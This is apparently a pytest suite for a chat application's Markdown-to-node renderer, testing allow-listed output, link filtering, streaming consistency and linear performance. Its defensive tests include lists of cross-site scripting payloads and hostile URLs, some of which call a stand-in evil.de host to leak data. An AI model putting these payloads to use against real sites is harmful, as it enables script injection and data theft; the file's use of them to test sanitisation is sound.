"""Replies as block trees: what Markdown becomes, what it can never become, and the laws of a growing text."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Sequence
from itertools import product
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatapp.web import nodes
from chatapp.web.links import read_link
from chatapp.web.markdown import BlockStream, Change, render
from chatapp.web.nodes import Node

NODES_JS = Path(__file__).parents[2] / "static" / "js" / "nodes.js"


def code(*children: object, language: str = "") -> list[object]:
    names = {"class": f"language-{language}", "data-language": language} if language else {}
    return ["pre", names, ["code", {"role": "group", "aria-label": "code", "tabindex": "0"}, *children]]


def table(head: Sequence[object], *rows: Sequence[object]) -> list[object]:
    box = {"class": "table", "role": "group", "aria-label": "table", "tabindex": "0"}
    body = [["tbody", {}, *rows]] if rows else []
    return ["div", box, ["table", {}, ["thead", {}, head], *body]]


def link(href: str, *children: object) -> list[object]:
    return ["a", {"href": href, "rel": "noopener noreferrer nofollow", "target": "_blank"}, *children]


def task(names: str, label: str) -> list[object]:
    return ["span", {"class": names, "aria-label": label, "role": "img"}]


def host(name: str) -> list[object]:
    return ["span", {"class": "host"}, f" ({name})"]


def apply(blocks: list[Node], changes: list[Change]) -> None:
    """What a reader of the changes does, exactly as the contract says it."""
    for place, node in changes:
        if node is None:
            del blocks[place]
        elif place == len(blocks):
            blocks.append(node)
        else:
            blocks[place] = node


def streamed(pieces: list[str], *, is_closed: bool = True) -> list[Node]:
    blocks: list[Node] = []
    stream = BlockStream()
    for piece in pieces:
        apply(blocks, stream.feed(piece))
    if is_closed:
        apply(blocks, stream.close())
    return blocks


def walk(blocks: list[Node]) -> Iterator[tuple[str, dict[str, str], list[object], int]]:
    """Every node in reading order: tag, attributes, children, and how deep it lies."""
    waiting = [(block, 1) for block in reversed(blocks)]
    while waiting:
        (tag, attributes, *children), depth = waiting.pop()
        assert isinstance(tag, str)
        assert isinstance(attributes, dict)
        yield tag, attributes, list(children), depth
        waiting.extend((child, depth + 1) for child in reversed(children) if isinstance(child, list))


def tags(blocks: list[Node]) -> set[str]:
    return {tag for tag, _, _, _ in walk(blocks)}


def words(children: Sequence[object]) -> str:
    """All text of some nodes, in reading order."""
    texts = (
        child if isinstance(child, str) else words(child[2:]) for child in children if isinstance(child, str | list)
    )
    return "".join(texts)


def assert_listed(blocks: list[Node]) -> None:
    for tag, attributes, children, depth in walk(blocks):
        assert depth < 128
        listed = nodes.MATH_ATTRIBUTES if tag in nodes.MATH_TAGS else nodes.HTML_ATTRIBUTES
        assert tag in nodes.HTML_TAGS + nodes.MATH_TAGS
        for name, value in attributes.items():
            assert re.fullmatch(listed[name], value), (tag, name)
        for name in attributes.get("class", "").split():
            known = name in nodes.LAYOUT_CLASSES + nodes.CODE_CLASSES
            assert known or re.fullmatch(nodes.LANGUAGE_CLASS, name)
        for child in children:
            assert not isinstance(child, str) or nodes.clean(child) == child


# --- what Markdown becomes ---


@pytest.mark.parametrize(
    ("text", "blocks"),
    [
        ("", []),
        ("plain", [["p", {}, "plain"]]),
        ("one\ntwo", [["p", {}, "one\ntwo"]]),
        ("one\\\ntwo  \nthree", [["p", {}, "one", ["br", {}], "two", ["br", {}], "three"]]),
        ("*a* **b**", [["p", {}, ["em", {}, "a"], " ", ["strong", {}, "b"]]]),
        ("~~c~~ `d`", [["p", {}, ["del", {}, "c"], " ", ["code", {}, "d"]]]),
        ("# a\n###### b", [["h1", {}, "a"], ["h6", {}, "b"]]),
        ("a\n===\nb\n---", [["h1", {}, "a"], ["h2", {}, "b"]]),
        ("a\n\n***", [["p", {}, "a"], ["hr", {}]]),
        ("> a\nb", [["blockquote", {}, ["p", {}, "a\nb"]]]),
        ("- a\n- b", [["ul", {}, ["li", {}, "a"], ["li", {}, "b"]]]),
        ("- a\n\n- b", [["ul", {}, ["li", {}, ["p", {}, "a"]], ["li", {}, ["p", {}, "b"]]]]),
        ("1. a\n2. b", [["ol", {}, ["li", {}, "a"], ["li", {}, "b"]]]),
        ("7) a", [["ol", {"start": "7"}, ["li", {}, "a"]]]),
        ("- a\n  - b", [["ul", {}, ["li", {}, "a", ["ul", {}, ["li", {}, "b"]]]]]),
        ("- [x] a", [["ul", {}, ["li", {}, task("task done", "done"), "a"]]]),
        ("- [ ] a", [["ul", {}, ["li", {}, task("task", "not done"), "a"]]]),
        ("    a\n\n    b", [code("a\n\nb")]),
        ("```\na\n```", [code("a\n")]),
        ("~~~ text more\na", [code("a", language="text")]),
        ("```Weird\"><x\na\n```", [code("a\n")]),
        ("```py\nx 1\n```", [code("x ", ["span", {"class": "m"}, "1"], "\n", language="py")]),
        ("[a]: https://h.de\n\n[a]", [["p", {}, link("https://h.de", "a", host("h.de"))]]),
        ("$x$", [["p", {}, ["math", {"display": "inline"}, ["mrow", {}, ["mi", {}, "x"]]]]]),
        ("$$x$$", [["p", {}, ["math", {"display": "block"}, ["mrow", {}, ["mi", {}, "x"]]]]]),
        ("$x^$", [["p", {}, ["code", {}, "x^"]]]),
        ("from $5-$10", [["p", {}, "from $5-$10"]]),
        ("&lt;b&gt; &copy;", [["p", {}, "<b> ©"]]),
        ("a\r\nb\rc", [["p", {}, "a\nb\nc"]]),
    ],
)  # fmt: skip
def test_markdown_becomes_listed_nodes(text: str, blocks: list[Node]) -> None:
    assert render(text) == blocks
    assert_listed(blocks)


def test_a_table_stands_in_a_box_that_scrolls() -> None:
    head = ["tr", {}, ["th", {"class": "left"}, "a"], ["th", {"class": "right"}, "b"]]
    row = ["tr", {}, ["td", {"class": "left"}, "1", ["br", {}], "2"], ["td", {"class": "right"}, "3"]]
    assert render("| a | b |\n|:--|--:|\n| 1<br>2 | 3 |") == [table(head, row)]


def test_a_short_row_is_not_filled_up() -> None:
    head = ["tr", {}, ["th", {}, "a"], ["th", {}, "b"]]
    assert render("|a|b|\n|-|-|\n|1|") == [table(head, ["tr", {}, ["td", {}, "1"]])]


def test_code_too_long_to_colour_stays_plain() -> None:
    source = "x = 1\n" * 4_000
    assert render(f"```python\n{source}```") == [code(source, language="python")]


@pytest.mark.parametrize("language", ["python", "js", "html", "diff", "sql", "json", "bash", "c++", "yaml"])
def test_coloured_code_keeps_every_character(language: str) -> None:
    source = "\n\n  def f(x): return '<b>' # 1\n+ new\n- old\n\tSELECT * FROM \"t\"; {}\n\n"
    assert words(render(f"```{language}\n{source}```")) == source


def test_a_formula_with_a_macro_is_shown_as_its_source() -> None:
    latex = r"\newcommand{\a}{\a\a}\a"
    assert render(f"${latex}$") == [["p", {}, ["code", {}, latex]]]


def test_a_formula_loses_links_styles_and_colours() -> None:
    [block] = render(r"$\href{javascript:x}{a}\style{color:red}{b}\color{red}{c}\class{host}{d}$")
    assert {name for _, attributes, _, _ in walk([block]) for name in attributes} == {"display"}


# --- addresses and pictures ---


@pytest.mark.parametrize(
    ("address", "href", "shown"),
    [
        ("https://a.de/b?c#d", "https://a.de/b?c#d", "a.de"),
        ("HTTP://A.de", "http://a.de", "a.de"),
        ("https://a.de:8443/", "https://a.de:8443/", "a.de"),
        ("https://раураl.com/x", "https://xn--l-7sba6dbr.com/x", "xn--l-7sba6dbr.com"),
        ("https://[::1]/", "https://[::1]/", "[::1]"),
        ("mailto:ward@clinic.de?bcc=x@y.z", "mailto:ward@clinic.de", "ward@clinic.de"),
        ("ward@clinic.de", "mailto:ward@clinic.de", "ward@clinic.de"),
    ],
)
def test_an_address_that_may_be_followed_shows_its_host(address: str, href: str, shown: str) -> None:
    found = read_link(address)
    assert found is not None
    assert (found.href, found.shown) == (href, shown)


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
        "data:text/html,x",
        "vbscript:x", "file:///etc/passwd", "ftp://a.de", "blob:https://a.de/x", "//a.de", "/api/stats", "x.html",
        "#top", "",
        "https:", "https:a.de", "https:///a.de", "https://", "https://bank.de@evil.de", "https://bank.de\\@evil.de",
        "https://a.de/\\x", "https://a b.de", "https://%65vil.de", "https://a..de", "https://a.de:x",
        "https://a.de\u202e/x",
        "https://" + "a" * 300 + ".de", "https://a.de/" + "a" * 3000, "mailto:", "mailto:a@b@c",
    ],
)  # fmt: skip
def test_any_other_address_is_no_link(address: str) -> None:
    assert read_link(address) is None
    assert "a" not in tags(render(f"[words](<{address}>)"))


@pytest.mark.parametrize(
    ("text", "children"),
    [
        ("<https://a.de/b>", ["https://a.de/b"]),
        ("[a.de](https://a.de/b)", ["a.de"]),
        ("[here](https://a.de/b)", ["here", host("a.de")]),
        ("[bank.de](https://a.de/b)", ["bank.de", host("a.de")]),
        ("[https://a.de.evil.org](https://a.de/b)", ["https://a.de.evil.org", host("a.de")]),
        ("![a *cat*](https://a.de/b)", ["image not loaded: a cat", host("a.de")]),
    ],
)
def test_a_link_names_its_host_where_its_words_do_not(text: str, children: list[object]) -> None:
    assert render(text) == [["p", {}, link("https://a.de/b", *children)]]


@pytest.mark.parametrize(
    ("text", "blocks"),
    [
        ("![cat](data:image/png;base64,AA)", [["p", {}, "image not loaded: cat"]]),
        ("![](x.png)", [["p", {}, "image not loaded: no description"]]),
        ("[![c](https://b.de)](https://a.de)", [["p", {}, link("https://a.de", "image not loaded: c", host("a.de"))]]),
    ],
)  # fmt: skip
def test_a_picture_is_told_in_words(text: str, blocks: list[Node]) -> None:
    assert render(text) == blocks


# --- what it can never become ---

PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1) onclick=x>x</a>", "<math><mtext><style><img src=x></style></mtext></math>",
    "<body onload=x>", "<style>*{background:url(//evil.de)}</style>", "<link rel=preload href=//evil.de>",
    "<form action=//evil.de><input name=a></form>", "<details ontoggle=x open>", "</div></p><b id=composer>",
    "javascript:alert(1)", "[x](javascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![x](https://evil.de/?q=secret)", "![x][r]\n\n[r]: //evil.de", "[x](https://a.de \"' onclick='x\")",
    "&#60;script&#62;", "&#x202e;gpj.exe", "\u202egpj.exe", "\x00\x1b[31m\x07\x9b", "\ud800", "`<b>`",
    "$\\href{javascript:x}{y}$",
    "```x\" onload=\"y\n<b>\n```", "<!-- <b> -->", "<![CDATA[<b>]]>", "<?php <b> ?>",
]  # fmt: skip

PLACES = [
    "{}",
    "# {}",
    "- {}",
    "> {}",
    "a {} b",
    "| {} |\n|---|\n| {} |",
    "**{}**",
    "[{}](https://a.de)",
    "```\n{}\n```",
    "1. a\n\n   {}",
]


@pytest.mark.parametrize(("payload", "place"), list(product(PAYLOADS, PLACES)))
def test_hostile_text_stays_inside_the_list(payload: str, place: str) -> None:
    text = place.replace("{}", payload)
    blocks = render(text)
    assert_listed(blocks)
    json.dumps(blocks).encode()
    assert streamed(list(text)) == blocks


def test_raw_html_is_letters() -> None:
    assert render("a <b onclick=x>c</b>") == [["p", {}, "a <b onclick=x>c</b>"]]
    assert render("<div style=x>\n*a*\n</div>") == [["p", {"class": "raw"}, "<div style=x>\n*a*\n</div>"]]


def test_controls_are_seen_and_what_has_no_width_is_gone() -> None:
    assert words(render("a\u202eb\u2066c\x1bd\u200be\U000e0041f\x7f")) == "a�b�c␛def␡"
    assert words(render("👩‍⚕️ é")) == "👩‍⚕️ é"


@pytest.mark.parametrize(
    "text",
    [
        ">" * 100_000,
        "> " * 50_000 + "a",
        "1. " * 33_000,
        "- + " * 25_000 + "a",
        "".join(" " * 2 * level + "- a\n" for level in range(300)),
        "*a **b " * 15_000,
        "[" * 100_000,
        "![" * 50_000 + "](x)" * 50_000,
        "`" * 100_000,
        "<" * 100_000,
        "$" + "{" * 900 + "}" * 900 + "$",
        "$$" + r"\sqrt{" * 300 + "x" + "}" * 300 + "$$",
    ],
)
def test_a_hundred_kilobytes_of_depth_stay_shallow(text: str) -> None:
    blocks = render(text)
    assert_listed(blocks)
    json.dumps(blocks)


def test_a_table_that_multiplies_itself_is_shown_as_text() -> None:
    text = "|a" * 2_000 + "\n" + "|-" * 2_000 + "\n" + "|x\n" * 500
    assert render(text) == [["p", {"class": "raw"}, text]]


# --- the laws of a growing text ---

LINES = [
    "Some text", "more of it", "", "", "- a", "- b", "  - c", "  continued", "1. one", "2. two", "   inside",
    "# Head", "---", "===",
    "```python", "```", "   ```", "~~~", "x = 1", "    indented", "> quote", "| a | b |", "|---|---|", "| 1 | 2 |",
    "<div>", "<b>x</b>",
    "<!-- note", "-->", "[r]: https://a.de", "a [r] b", "$x$ and **bold", "text** `code", "[link](https://a.de",
    "\t- tab", "$$", "a\rb",
]  # fmt: skip
documents = st.lists(st.sampled_from(LINES), max_size=14).map("\n".join) | st.text(
    st.sampled_from("ab \n\n\r\t-*+_#>`~|$[]()!<&;1.:\\\u202e\ud800é"), max_size=60
)


@given(documents, st.data())
def test_any_chunking_ends_in_the_truth(text: str, data: st.DataObject) -> None:
    places = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    pieces = [text[start:end] for start, end in zip([0, *places], [*places, len(text)], strict=True)]
    assert streamed(pieces) == render(text)
    assert (
        streamed(pieces, is_closed=False) == streamed([text], is_closed=False) == streamed(list(text), is_closed=False)
    )


@given(documents)
def test_the_list_holds_for_any_text(text: str) -> None:
    assert_listed(render(text))


def test_a_long_text_grows_the_same_in_any_pieces() -> None:
    text = "- item with words\n" * 300 + "\n```python\n" + "x = 1\n" * 2_000 + "```\n\nend"
    whole = streamed([text], is_closed=False)
    assert all(
        streamed([text[at : at + size] for at in range(0, len(text), size)], is_closed=False) == whole
        for size in (7, 1_000)
    )


def test_a_closed_block_is_never_sent_again() -> None:
    stream = BlockStream()
    stream.feed("# Title\n\nFirst paragraph.\n\nThe second")
    assert [place for place, _ in stream.feed(" goes on")] == [2]
    assert stream.feed("") == []
    assert stream.close() == []


def test_a_link_defined_late_is_mended_at_the_end() -> None:
    stream = BlockStream()
    stream.feed("See [r] there.\n\nMore.\n\n[r]: https://a.de\n")
    assert stream.close() == [(0, ["p", {}, "See ", link("https://a.de", "r", host("a.de")), " there."])]


def test_a_link_defined_earlier_is_known_at_once() -> None:
    stream = BlockStream()
    stream.feed("[My  Ref]: https://a.de\n\nText.\n\nSee [my ref]")
    assert stream.close() == []


def test_a_dash_below_a_paragraph_is_no_heading_for_the_blink_of_an_eye() -> None:
    stream = BlockStream()
    assert stream.feed("Two things:\n-") == [(0, ["p", {}, "Two things:"])]
    assert stream.feed(" first") == [(1, ["ul", {}, ["li", {}, "first"]])]


def test_an_open_fence_grows_by_lines_and_is_coloured_once_closed() -> None:
    stream = BlockStream()
    stream.feed("```python\nx = ")
    assert stream.feed("1\ny") == [(0, code("x = 1\n", language="python"))]
    [(_, closed)] = stream.feed("\n```\n")
    assert closed is not None
    assert "span" in tags([closed])


PARAGRAPH = "A sentence of some forty characters stands. " * 8
LONG_TEXTS = {
    "paragraphs": (PARAGRAPH + "\n\n") * 100,
    "one fence": "```python\n" + "value = compute(1)\n" * 2_000 + "```\n",
    "one paragraph": PARAGRAPH * 100,
    "a tight list": "- an item of the list\n" * 1_100,
    "a loose list": "- an item of the list\n\n" * 1_100,
    "a table": "| a | b |\n|---|---|\n" + "| cell one | cell two |\n" * 1_100,
    "an open comment": "<!-- " + (PARAGRAPH + "\n\n") * 100,
    "code in a list": "1. step\n\n   ```\n" + "   code\n\n" * 3_000,
}


@pytest.mark.parametrize("kind", LONG_TEXTS)
def test_the_work_is_linear_in_the_text(kind: str) -> None:
    def parsed_per_character(text: str) -> float:
        stream = BlockStream()
        for start in range(0, len(text), 40):
            stream.feed(text[start : start + 40])
        stream.close()
        return stream.parsed_characters / len(text)

    text = LONG_TEXTS[kind]
    assert parsed_per_character(text[: len(text) // 4]) < 45
    assert parsed_per_character(text) < 45


def test_a_stream_tells_how_it_stands() -> None:
    stream = BlockStream()
    stream.feed("# Title\n\nSome text\n")
    assert repr(stream) == "<BlockStream: 2 blocks, 1 final, 10 characters open>"


# --- one list, stated once per side ---


def js_constant(name: str) -> object:
    found = re.search(rf"export const {name} = (.*?);\n", NODES_JS.read_text("utf-8"), re.DOTALL)
    assert found, name
    return json.loads(found[1])


@pytest.mark.parametrize(
    ("name", "ours"),
    [
        ("HTML_TAGS", list(nodes.HTML_TAGS)),
        ("MATH_TAGS", list(nodes.MATH_TAGS)),
        ("HTML_ATTRIBUTES", nodes.HTML_ATTRIBUTES),
        ("MATH_ATTRIBUTES", nodes.MATH_ATTRIBUTES),
        ("CLASSES", sorted(nodes.LAYOUT_CLASSES + nodes.CODE_CLASSES)),
        ("LANGUAGE_CLASS", nodes.LANGUAGE_CLASS),
    ],
)
def test_the_browser_builds_from_the_same_list(name: str, ours: object) -> None:
    assert js_constant(name) == ours
